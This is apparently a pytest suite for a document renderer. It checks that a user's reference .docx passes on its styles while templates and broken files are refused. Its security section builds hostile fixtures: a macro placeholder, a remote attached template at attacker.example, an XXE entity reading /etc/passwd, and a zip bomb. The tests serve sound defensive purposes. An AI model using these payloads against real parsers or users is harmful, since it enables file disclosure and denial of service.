"""A user's reference .docx: its styles win, what it lacks is added, its content is not carried over.

This is how an organisation gets the press kit in its house style without writing a layout (pandoc's
reference-doc idea). Only styles come from it; page geometry stays the layout's.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import docx
import pytest

from briefpack.errors import UserError
from briefpack.fonts import FontSet
from briefpack.layout.model import Layout
from briefpack.render.docx import render_docx
from render.docx.docx_parts import NS, Docx, paragraph_text, w
from render.docx.probes import (
    REFERENCE_BODY_FONT,
    REFERENCE_HEADING_COLOUR,
    REFERENCE_HEADING_FONT,
    make_reference,
)
from render.samples import SCRIPT_LINES, every_block_document


def test_reference_styles_are_used_as_they_are(with_reference: Docx) -> None:
    heading = with_reference.style_named("heading 1")
    rpr = heading.find("w:rPr", NS)
    assert rpr.find("w:rFonts", NS).get(w("ascii")) == REFERENCE_HEADING_FONT
    assert rpr.find("w:color", NS).get(w("val")) == REFERENCE_HEADING_COLOUR
    assert rpr.find("w:sz", NS).get(w("val")) == "44"
    normal = with_reference.style_named("Normal").find("w:rPr/w:rFonts", NS)
    assert normal.get(w("ascii")) == REFERENCE_BODY_FONT
    assert with_reference.paragraph_with("Scripts of the region", style=heading.get(w("styleId"))) is not None


def test_styles_the_reference_lacks_are_added_from_the_layout(with_reference: Docx) -> None:
    for name in ("Table Head", "toc 1", "Hyperlink", "Key Value", "Card Grid"):
        assert with_reference.style_named(name) is not None, name


def test_latin_runs_take_their_font_from_the_reference_styles(with_reference: Docx) -> None:
    """Only Latin runs: the other scripts still name their faces, a style has one slot for all of them."""
    heading = with_reference.paragraph_with("Scripts of the region", style="Heading1")
    assert heading.find("w:r/w:rPr/w:rFonts", NS) is None
    thai = with_reference.paragraph_with(SCRIPT_LINES["thai"])
    assert thai.find("w:r/w:rPr/w:rFonts", NS).get(w("cs")) == "Noto Sans Thai"


def test_the_reference_content_and_headers_are_not_carried_over(with_reference: Docx) -> None:
    text = "".join(paragraph_text(p) for p in with_reference.paragraphs())
    assert "must not survive" not in text
    heads = "".join(paragraph_text(p) for h in with_reference.headers().values() for p in h.iterfind(".//w:p", NS))
    assert "REFERENCE HEADER" not in heads
    assert len(with_reference.headers()) == 3  # ours: cover, body, cards


def test_a_reference_without_built_in_styles_gets_them(tmp_path: Path, layout: Layout, fonts: FontSet) -> None:
    """python-docx raises KeyError for built-ins missing from a file; the renderer creates them."""
    reference = make_reference(tmp_path / "bare.docx", drop=("Body Text", "heading 2", "Title", "List Bullet"))
    out = Docx(render_docx(every_block_document(), layout, fonts, reference=reference))
    for name in ("Body Text", "heading 2", "Title", "List Bullet"):
        assert out.style_named(name) is not None, name
    assert out.style_named("heading 1").find("w:rPr/w:color", NS).get(w("val")) == REFERENCE_HEADING_COLOUR
    docx.Document(io.BytesIO(out.data))  # and python-docx reads the result


def test_a_word_template_is_refused_with_a_hint(tmp_path: Path, layout: Layout, fonts: FontSet) -> None:
    template = make_reference(tmp_path / "house.dotx")
    with pytest.raises(UserError) as caught:
        render_docx(every_block_document(), layout, fonts, reference=template)
    assert "save it as a Word document (.docx)" in caught.value.render()


def test_a_template_renamed_to_docx_is_refused_too(tmp_path: Path, layout: Layout, fonts: FontSet) -> None:
    source = make_reference(tmp_path / "source.docx")
    renamed = tmp_path / "renamed.docx"
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(renamed, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "[Content_Types].xml":
                data = data.replace(b"document.main+xml", b"template.main+xml")
            dst.writestr(info, data)
    with pytest.raises(UserError, match="Word template"):
        render_docx(every_block_document(), layout, fonts, reference=renamed)


@pytest.mark.parametrize("content", [b"not a zip at all", b""])
def test_a_broken_reference_is_a_user_error(tmp_path: Path, layout: Layout, fonts: FontSet, content: bytes) -> None:
    broken = tmp_path / "broken.docx"
    broken.write_bytes(content)
    with pytest.raises(UserError, match=r"not a readable \.docx"):
        render_docx(every_block_document(), layout, fonts, reference=broken)


def test_a_missing_reference_is_a_user_error(tmp_path: Path, layout: Layout, fonts: FontSet) -> None:
    with pytest.raises(UserError, match="cannot read the reference"):
        render_docx(every_block_document(), layout, fonts, reference=tmp_path / "nope.docx")


def test_reference_output_is_deterministic(
    reference_docx: Path, layout: Layout, fonts: FontSet, with_reference: Docx
) -> None:
    assert render_docx(every_block_document(), layout, fonts, reference=reference_docx) == with_reference.data


# --- a reference document is untrusted (issue 12) --------------------------------------------------------


def _hostile_reference(tmp_path: Path, **replace: bytes) -> Path:
    """A real .docx with a macro, a remote template, comments, custom properties and `replace`d parts."""
    plain = tmp_path / "plain.docx"
    word = docx.Document()
    word.add_paragraph("reference body")
    word.save(plain)
    hostile = tmp_path / "hostile.docx"
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(hostile, "w", zipfile.ZIP_DEFLATED) as out:
        for item in src.infolist():
            out.writestr(item, replace.pop(item.filename, src.read(item)))
        out.writestr("word/vbaProject.bin", b"MACRO-PAYLOAD")
        out.writestr(
            "word/_rels/settings.xml.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>',
        )
        out.writestr(
            "word/comments.xml", '<w:comments xmlns:w="x"><w:comment w:author="Secret Reviewer"/></w:comments>'
        )
        out.writestr("docProps/custom.xml", "<Properties><property name='ClientSecret'>s3cr3t</property></Properties>")
        for name, data in replace.items():
            out.writestr(name, data)
    return hostile


def test_only_styles_come_from_a_reference_never_macros_remote_templates_comments_or_properties(
    tmp_path: Path, render_fonts: FontSet, layout: Layout
) -> None:
    data = render_docx(every_block_document(), layout, render_fonts, reference=_hostile_reference(tmp_path))
    with zipfile.ZipFile(io.BytesIO(data)) as made:
        names = made.namelist()
        everything = b"".join(made.read(n) for n in names)
    assert not [n for n in names if "vbaProject" in n or "comments" in n or n == "docProps/custom.xml"]
    for leaked in (b"attacker.example", b"attachedTemplate", b"MACRO-PAYLOAD", b"Secret Reviewer", b"ClientSecret"):
        assert leaked not in everything, leaked
    assert b"reference body" not in everything


XXE = (
    b'<?xml version="1.0"?><!DOCTYPE w:styles [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    b'<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&e;</w:styles>'
)


def test_a_reference_with_entities_is_refused_with_a_message(
    tmp_path: Path, render_fonts: FontSet, layout: Layout
) -> None:
    reference = _hostile_reference(tmp_path, **{"word/styles.xml": XXE})
    with pytest.raises(UserError, match="declares a DTD or entities"):
        render_docx(every_block_document(), layout, render_fonts, reference=reference)


def test_a_zip_bomb_reference_is_refused_before_it_is_unpacked(
    tmp_path: Path, render_fonts: FontSet, layout: Layout
) -> None:
    bomb = b'<?xml version="1.0"?><w:styles xmlns:w="x">' + b" " * (200 * 1024 * 1024) + b"</w:styles>"
    reference = _hostile_reference(tmp_path, **{"word/styles.xml": bomb})
    assert reference.stat().st_size < 2 * 1024 * 1024
    with pytest.raises(UserError, match="unpacks to 209,715,"):
        render_docx(every_block_document(), layout, render_fonts, reference=reference)
